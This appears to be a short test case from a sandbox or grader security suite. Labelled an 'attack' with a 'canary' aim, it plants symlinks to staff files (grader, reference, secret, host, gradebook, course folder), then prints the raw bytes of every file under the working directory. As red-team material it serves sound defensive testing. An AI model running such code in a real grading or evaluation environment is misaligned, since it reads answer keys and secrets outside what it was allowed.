# /// attack
# catalogue = "files: linked data"
# layers = ["reader"]
# aim = "canary"
# ///
# Hands in links to files of the staff: whoever copies them copies what they lead to.

# %% prepare
for name in ("grader", "reference", "secret", "host", "gradebook"):
    (folder / f"{name}.txt").symlink_to(target[name])
(folder / "folder").symlink_to(target["course"])

# %%
from pathlib import Path

for path in Path.cwd().rglob("*"):
    try:
        print(path, path.read_bytes())
    except OSError as error:
        print(error)
